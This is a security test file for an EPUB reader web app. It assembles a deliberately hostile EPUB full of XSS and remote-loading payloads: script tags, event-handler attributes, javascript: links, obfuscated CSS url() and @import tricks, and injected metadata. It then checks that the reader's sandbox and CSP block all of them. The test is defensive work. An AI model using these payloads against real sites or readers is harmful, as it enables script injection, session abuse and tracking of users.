// Hostile EPUBs: nothing in them is executed, no external request is sent, and they reach neither the session nor the
// surrounding page.
import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo, Socket } from 'node:net';
import { join } from 'node:path';
import type { BookDto } from '@lectern/contract/libraries/books';
import { corpusRoot, hasCorpus, makeEpub, makeXhtml } from '@lectern/server/testing';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { makeParagraphs } from '../harness/books/epubs.ts';
import { findBook } from '../harness/books/shelf.ts';
import { bookFrames, clickInBook, openBook, waitForText } from '../harness/browser/epub-page.ts';
import { startWeb, type Web } from '../harness/browser/web.ts';

const found = 'hostile/epub/script and remote content.epub';

const hacked =
  "(top.hacked=1,parent.hacked=1,window.hacked=1,document.body.className='hacked',localStorage.evil=1,document.cookie='evil=1',indexedDB.open('evil'),caches.open('evil'))";

/** Rules that load a file without a literal `url(`. `evil.css` declares its namespace before them. */
const hostileRules = (elsewhere: string) => String.raw`
  p { background: u\rl(${elsewhere}/escaped.png) }
  h1 { background: image-set("${elsewhere}/image-set.png" 1x); cursor: image-set("${elsewhere}/cursor.png" 1x), auto }
  div { --a: url(${elsewhere}/variable.png); background: var(--a); mask: url(${elsewhere}/mask.svg#a) }
  svg { filter: url(${elsewhere}/filter.svg#a); list-style: url(${elsewhere}/marker.png) }
  p::before { content: url(${elsewhere}/content.png) }
  @font-face { font-family: evil2; src: url(${elsewhere}/font2.woff2), url(${elsewhere}/font2.svg#a) format("svg") }
  p { font-family: evil2; shape-outside: url(${elsewhere}/shape.png) }`;

/** Everything that a document may try. `elsewhere` is the address of an external server. */
const attacks = (elsewhere: string) => ({
  head: `
    <script>${hacked}</script>
    <script src="evil.js"></script>
    <script src="${elsewhere}/script.js"></script>
    <script type="module">import '${elsewhere}/module.js'; ${hacked}</script>
    <meta http-equiv="refresh" content="0; url=${elsewhere}/refresh"/>
    <meta http-equiv="Content-Security-Policy" content="default-src *"/>
    <base target="_top"/>
    <link rel="stylesheet" href="${elsewhere}/sheet.css"/>
    <link rel="stylesheet" href="evil.css"/>
    <link rel="preload" as="image" href="${elsewhere}/preload.png"/>
    <link rel="prefetch" href="${elsewhere}/prefetch"/>
    <link rel="prerender" href="${elsewhere}/prerender"/>
    <link rel="preconnect" href="${elsewhere}"/>
    <link rel="dns-prefetch" href="${elsewhere}"/>
    <link rel="manifest" href="${elsewhere}/manifest"/>
    <link rel="icon" href="${elsewhere}/icon"/>
    <style>@import url("${elsewhere}/import.css"); body { background: url(${elsewhere}/background.png) }
      @font-face { font-family: evil; src: url(${elsewhere}/font.woff) } p { font-family: evil }
      ${hostileRules(elsewhere)}</style>`,
  body: `
    <h1 style='background: image-set("${elsewhere}/attribute.png" 1x)'>One</h1>
    <p id="begin" style="border-image: u\\rl(${elsewhere}/attribute2.png)">It begins.</p>
    <img src="/api/v1/info" alt=""/><link rel="stylesheet" href="/api/v1/libraries"/>
    <audio src="/api/v1/user"></audio>
    <img src="x.png" onerror="${hacked}" alt=""/>
    <img src="${elsewhere}/image.png" srcset="${elsewhere}/image2.png 2x" alt=""/>
    <picture><source srcset="${elsewhere}/source.png"/><img src="x.png" alt=""/></picture>
    <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20" onload="${hacked}">
      <script>${hacked}</script><script xlink:href="evil.js"/>
      <image xlink:href="${elsewhere}/svg.png" width="10" height="10"/>
      <use xlink:href="${elsewhere}/use.svg#a"/>
      <a id="svglink" xlink:href="javascript:${hacked}"><text y="10">svg</text></a>
      <foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${hacked}"></iframe></foreignObject>
    </svg>
    <iframe src="${elsewhere}/frame"></iframe>
    <iframe srcdoc="&lt;script&gt;top.hacked=1&lt;/script&gt;"></iframe>
    <iframe src="/" id="own"></iframe>
    <object data="${elsewhere}/object"></object><object data="evil.svg" type="image/svg+xml"></object>
    <embed src="${elsewhere}/embed"/>
    <video src="${elsewhere}/video.mp4" poster="${elsewhere}/poster.png" autoplay="autoplay" onloadstart="${hacked}"></video>
    <audio src="${elsewhere}/audio.mp3" autoplay="autoplay"></audio>
    <form id="form" action="${elsewhere}/form" method="post"><input name="a" value="b" autofocus="autofocus" onfocus="${hacked}"/>
      <button id="send">Send</button></form>
    <form action="/api/v1/auth/logout" method="post"><button id="logout">Sign out</button></form>
    <a id="script" href="javascript:${hacked}">script</a>
    <a id="data" href="data:text/html,&lt;script&gt;top.hacked=1&lt;/script&gt;">data</a>
    <a id="top" href="${elsewhere}/top" target="_top">top</a>
    <a id="blank" href="${elsewhere}/blank" target="_blank">blank</a>
    <a id="ping" href="c1.xhtml" ping="${elsewhere}/ping">ping</a>
    <a id="download" href="${elsewhere}/file" download="file">download</a>
    <details open="open" ontoggle="${hacked}"><summary onclick="${hacked}">more</summary></details>
    <div id="hover" onmouseover="${hacked}" onpointerdown="${hacked}">hover</div>
    ${makeParagraphs(1, 3)}`,
});

const makeHostile = (elsewhere: string): Buffer => {
  const { head, body } = attacks(elsewhere);
  const chapter = makeXhtml(body)
    .replace('</head>', `${head}</head>`)
    .replace('<body>', `<body onload="${hacked}">`);
  return makeEpub({
    metadata: `<dc:title>&lt;img src=x onerror=alert(1)&gt; \u202etxt</dc:title><dc:language>en</dc:language>
      <dc:description>&lt;a href="javascript:alert(1)"&gt;x&lt;/a&gt;&lt;script&gt;top.hacked=1&lt;/script&gt;</dc:description>`,
    manifest: `<item id="nav" href="nav.xhtml" media-type="application/xhtml+xml" properties="nav"/>
      <item id="c1" href="c1.xhtml" media-type="application/xhtml+xml" properties="scripted remote-resources"/>
      <item id="c2" href="broken.xhtml" media-type="application/xhtml+xml"/>
      <item id="c3" href="evil.svg" media-type="image/svg+xml"/>
      <item id="js" href="evil.js" media-type="text/javascript"/>
      <item id="css" href="evil.css" media-type="text/css"/>`,
    spine: '<itemref idref="c1"/><itemref idref="c2"/><itemref idref="c3"/>',
    files: {
      'OEBPS/text/c2.xhtml': undefined,
      'OEBPS/nav.xhtml': makeXhtml(
        '<nav epub:type="toc"><ol><li><a href="c1.xhtml">&lt;b onclick="x"&gt;One</a></li><li><a href="broken.xhtml">Broken</a></li><li><a href="evil.svg">Picture</a></li></ol></nav>',
      ),
      'OEBPS/c1.xhtml': chapter,
      // Invalid XHTML, which is shown as HTML through a different code path.
      'OEBPS/broken.xhtml': `<html><head>${head}</head><body><p>It is broken & open<br>${body}`,
      'OEBPS/evil.svg': `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" onload="${hacked}"><script>${hacked}</script><style>@import "${elsewhere}/svg.css"; ${hostileRules(elsewhere).replaceAll('"', "'")}</style><image href="${elsewhere}/in-svg.png"/><text fill="url(${elsewhere}/fill.svg#a)">x</text></svg>`,
      'OEBPS/evil.js': hacked,
      'OEBPS/evil.css': `@import "${elsewhere}/second.css"; @\\69mport url(${elsewhere}/third.css) layer(a);
        @namespace url(${elsewhere}/namespace); p { background: url("${elsewhere}/css.png") } ${hostileRules(elsewhere)}`,
    },
  });
};

describe('a hostile EPUB', () => {
  let web: Web;
  let book: BookDto;
  const asked: string[] = [];
  let connections = 0;
  const sockets = new Set<Socket>();
  const elsewhere = createServer((request, answer) => {
    asked.push(request.url ?? '');
    answer.end();
  });

  beforeAll(async () => {
    elsewhere.on('connection', (socket) => {
      connections += 1;
      sockets.add(socket);
    });
    await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
    const { port } = elsewhere.address() as AddressInfo;
    web = await startWeb({
      files: {
        'Evil/Evil.epub': makeHostile(`http://127.0.0.1:${port}`),
        ...(hasCorpus && { 'Corpus/Corpus.epub': readFileSync(join(corpusRoot, found)) }),
      },
    });
    book = await findBook(web.admin, 'Evil.epub');
  }, 120_000);

  afterAll(async () => {
    await web?.end();
    for (const socket of sockets) socket.destroy();
    elsewhere.close();
  });

  /** Verifies that browser storage contains nothing from a book. */
  const storage = `(async () => JSON.stringify([
    Object.keys(localStorage).filter((key) => !key.startsWith('lectern.')),
    document.cookie,
    (await indexedDB.databases()).map(({ name }) => name).filter((name) => !name.startsWith('lectern-')),
    (await caches.keys()).filter((name) => name === 'evil'),
  ]))()`;

  /** Verifies that no frame executed anything, and that page and session are unchanged. */
  async function expectUntouched(page: Page): Promise<void> {
    expect(await page.evaluate('[window.hacked ?? null, document.title, location.pathname]')).toEqual([
      null,
      expect.not.stringContaining('hacked'),
      `/books/${book.id}/read`,
    ]);
    const look = '[window.hacked ?? null, document.body?.className ?? ""]';
    for (const frame of bookFrames(page)) {
      // A frame that has just been replaced cannot be inspected.
      const seen = await frame.evaluate(look).catch((error: unknown) => error);
      if (!frame.isDetached()) expect(seen).toEqual([null, '']);
    }
    expect(await page.evaluate(storage)).toBe(JSON.stringify([[], '', [], []]));
    expect(asked).toEqual([]);
    expect(page.context().pages()).toHaveLength(1);
    expect((await page.request.get(`${web.base}/api/v1/auth/me`)).status()).toBe(200);
  }

  /** A chapter that has just been loaded does not handle keys yet. */
  async function openContents(page: Page): Promise<void> {
    const panel = page.getByRole('dialog', { name: 'Contents' });
    const isOpen = () =>
      panel.waitFor({ timeout: 5_000 }).then(
        () => true,
        () => false,
      );
    do await page.keyboard.press('t');
    while (!(await isOpen()));
  }

  // Messages of the browser about blocked content.
  const allow = /./;

  test('executes nothing, sends no external request and stays in its frame in every layout', {
    timeout: 90_000,
  }, async () => {
    const page = await web.signedIn('/', { allow });
    const outside: string[] = [];
    // The browser reports blocked requests as failed, so only finished requests count.
    page.on('requestfinished', (request) => {
      if (!request.url().startsWith(web.base) && !/^(data|blob):/.test(request.url()))
        outside.push(request.url());
      const own = `${web.base}/api/v1/books/${book.id}/resources/`;
      const isOfBook = request.frame().parentFrame() !== null && !/^(data|blob|about):/.test(request.url());
      if (isOfBook && !request.url().startsWith(own)) outside.push(request.url());
    });
    await openBook(page, web.base, book.id);
    await waitForText(page, 'It begins.');
    await expectUntouched(page);
    for (const id of [
      'script',
      'data',
      'top',
      'download',
      'svglink',
      'hover',
      'send',
      'logout',
      'ping',
      'blank',
    ]) {
      await clickInBook(page, `#${id}`);
      await page.keyboard.press('Escape');
      if (!page.url().endsWith('/read')) await openBook(page, web.base, book.id);
      await waitForText(page, 'It begins.');
    }
    await expectUntouched(page);
    await openContents(page);
    await page.getByRole('button', { name: 'Broken' }).click();
    await waitForText(page, 'It is broken');
    await expectUntouched(page);
    await openContents(page);
    await page.getByRole('button', { name: 'Picture' }).click();
    await expect.poll(() => bookFrames(page).some((frame) => frame.url().startsWith('blob:'))).toBe(true);
    await expectUntouched(page);
    await page.keyboard.press('/');
    await page.getByLabel('Find in book').fill('it begins');
    await page.keyboard.press('Enter');
    await page.getByText('2 results', { exact: true }).waitFor();
    await expectUntouched(page);
    expect(outside).toEqual([]);
    expect(connections).toBe(0);
  });

  test("cannot run scripts or leave its frame, due to the sandbox attribute and the server's headers", async () => {
    const page = await web.signedIn('/', { allow });
    const policies: string[] = [];
    page.on('response', (response) => {
      if (response.url().endsWith('c1.xhtml'))
        policies.push(response.headers()['content-security-policy'] ?? '');
    });
    await openBook(page, web.base, book.id);
    await waitForText(page, 'It begins.');
    const [frame] = bookFrames(page);
    expect(await frame?.evaluate('frameElement.getAttribute("sandbox")')).toBe('allow-same-origin');
    await expect.poll(() => policies.length).toBeGreaterThan(0);
    for (const policy of policies) {
      expect(policy).toMatch(/^sandbox allow-same-origin;/);
      expect(policy).toContain("default-src 'none'");
      expect(policy).toContain("form-action 'none'");
    }
  });

  test('from the wild sends no external request and executes nothing', async ({ skip }) => {
    if (!hasCorpus) skip();
    const { id } = await findBook(web.admin, 'Corpus.epub');
    const page = await web.signedIn('/', { allow });
    const outside: string[] = [];
    page.on('requestfinished', (request) => {
      if (!request.url().startsWith(web.base) && !/^(data|blob):/.test(request.url()))
        outside.push(request.url());
      const own = `${web.base}/api/v1/books/${id}/resources/`;
      const isOfBook = request.frame().parentFrame() !== null && !/^(data|blob|about):/.test(request.url());
      if (isOfBook && !request.url().startsWith(own)) outside.push(request.url());
    });
    await openBook(page, web.base, id);
    await expect.poll(() => bookFrames(page).length).toBeGreaterThan(0);
    await page.keyboard.press('End');
    await page.keyboard.press('Home');
    await page.waitForLoadState('networkidle');
    for (const frame of bookFrames(page))
      expect(await frame.evaluate('frameElement.getAttribute("sandbox")')).toBe('allow-same-origin');
    expect(await page.evaluate(storage)).toBe(JSON.stringify([[], '', [], []]));
    expect(outside).toEqual([]);
  });

  test('has title, contents and description shown as plain text', async () => {
    const page = await web.signedIn(`/books/${book.id}`, { allow });
    await page.getByRole('heading', { name: /<img src=x onerror/ }).waitFor();
    expect(await page.locator('a[href^="javascript"]').count()).toBe(0);
    expect(await page.evaluate('window.hacked')).toBeUndefined();
    await openBook(page, web.base, book.id);
    await openContents(page);
    await page.getByRole('button', { name: '<b onclick="x">One' }).waitFor();
  });

  test('has documents that reveal nothing to other sites', async () => {
    const url = `${web.base}/api/v1/books/${book.id}/resources/OEBPS/c1.xhtml`;
    for (const origin of ['https://evil.example', 'null']) {
      const answer = await fetch(url, { headers: { origin } });
      expect([answer.status, answer.headers.get('access-control-allow-origin')]).toEqual([401, null]);
    }
  });
});
